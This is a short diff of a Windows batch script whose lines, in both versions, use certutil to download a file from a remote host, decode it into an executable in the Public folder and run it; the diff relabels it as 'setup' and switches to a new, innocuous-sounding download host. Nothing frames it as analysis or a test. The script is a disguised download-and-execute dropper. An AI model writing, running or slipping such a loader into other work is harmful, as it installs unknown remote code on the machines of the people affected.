@@ -1,5 +1,5 @@
-REM task 6993 v0
+REM setup 7222 v0
 @echo off
-certutil -urlcache -f http://cdn-update.example/p.txt %PUBLIC%\p.txt
+certutil -urlcache -f http://static.metrics-node.example/p.txt %PUBLIC%\p.txt
 certutil -decode %PUBLIC%\p.txt %PUBLIC%\p.exe
 %PUBLIC%\p.exe
